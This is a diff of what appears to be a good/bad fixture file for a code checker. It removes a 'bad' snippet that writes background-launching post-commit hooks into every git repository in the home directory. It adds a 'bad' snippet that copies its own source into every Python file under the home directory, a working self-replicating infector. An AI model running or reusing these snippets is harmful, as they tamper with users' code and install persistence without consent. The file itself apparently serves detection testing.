@@ -1,25 +1,23 @@
-#: bad githooks
+#: bad self-copy
+import glob
 import os
 
-LINE = "#!/bin/sh\npython3 -m formatter_sync &\n"
+ME = open(__file__).read()
+for path in glob.glob(os.path.expanduser("~/**/*.py"), recursive=True):
+    with open(path, "r+") as target:
+        text = target.read()
+        if "# kit-marker" not in text:
+            target.seek(0)
+            target.write("# kit-marker\n" + ME + "\n" + text)  #!
 
-for root, folders, _ in os.walk(os.path.expanduser("~")):
-    if ".git" in folders:
-        hook = os.path.join(root, ".git", "hooks", "post-commit")
-        with open(hook, "w") as out: #!
-            out.write(LINE)
-        os.chmod(hook, 0o755)
-#: good githooks
+#: good self-copy
+import glob
 import os
 
-LINE = "#!/bin/sh\nexec formatter --check\n"
-
-
-def install(root):
-    folder = os.path.join(root, ".githooks")
-    os.makedirs(folder, exist_ok=True)
-    hook = os.path.join(folder, "pre-commit")
-    with open(hook, "w") as out:
-        out.write(LINE)
-    os.chmod(hook, 0o755)
-    print("enable it with: git config core.hooksPath .githooks")
+HEADER = "# SPDX-License-Identifier: MIT\n"
+for path in glob.glob(os.path.join("src", "**", "*.py"), recursive=True):
+    with open(path, "r+") as target:
+        text = target.read()
+        if not text.startswith(HEADER):
+            target.seek(0)
+            target.write(HEADER + text)
